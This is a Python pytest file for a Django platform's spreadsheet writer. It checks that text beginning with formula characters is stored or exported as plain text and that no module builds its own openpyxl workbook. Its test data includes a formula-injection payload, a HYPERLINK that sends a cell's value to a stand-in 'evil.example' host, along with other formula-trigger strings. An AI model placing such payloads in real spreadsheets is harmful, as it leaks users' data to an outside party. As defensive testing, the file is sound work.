"""One guard for every spreadsheet the platform writes: text that looks like a formula stays text."""

import io
import re

import pytest
from django.conf import settings
from openpyxl import load_workbook

from alliance.core.spreadsheets import csv_text, new_workbook

ATTACKS = ['=HYPERLINK("http://evil.example/?"&K2,"Click")', "+1+2", "-1+2", "@SUM(1+1)", "\t=1+1", "\r=1"]
WORKBOOK_CONSTRUCTOR = re.compile(r"(?<![\w.])Workbook\(")


def _cells(content: bytes, sheet: str) -> list[tuple]:
    rows = load_workbook(io.BytesIO(content))[sheet].iter_rows()
    return [(cell.value, cell.data_type) for row in rows for cell in row]


@pytest.mark.parametrize("write_only", [True, False])
def test_appended_formula_text_is_stored_as_text(write_only):
    workbook = new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("시트")
    sheet.append([*ATTACKS, 42, "보통 글"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = _cells(buffer.getvalue(), "시트")

    assert cells == [(text, "s") for text in ATTACKS] + [(42, "n"), ("보통 글", "s")]


def test_csv_text_quotes_formula_text_only():
    assert [csv_text(value) for value in [*ATTACKS, "보통", 3, None]] == [
        *("'" + text for text in ATTACKS),
        "보통",
        "3",
        "",
    ]


def test_every_workbook_the_platform_writes_comes_from_the_guard():
    """A module building its own openpyxl Workbook would bypass the guard: only core.spreadsheets does."""
    root = settings.BASE_DIR / "alliance"
    builders = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and WORKBOOK_CONSTRUCTOR.search(path.read_text(encoding="utf-8"))
        and path.name != "spreadsheets.py"
    )

    assert builders == []
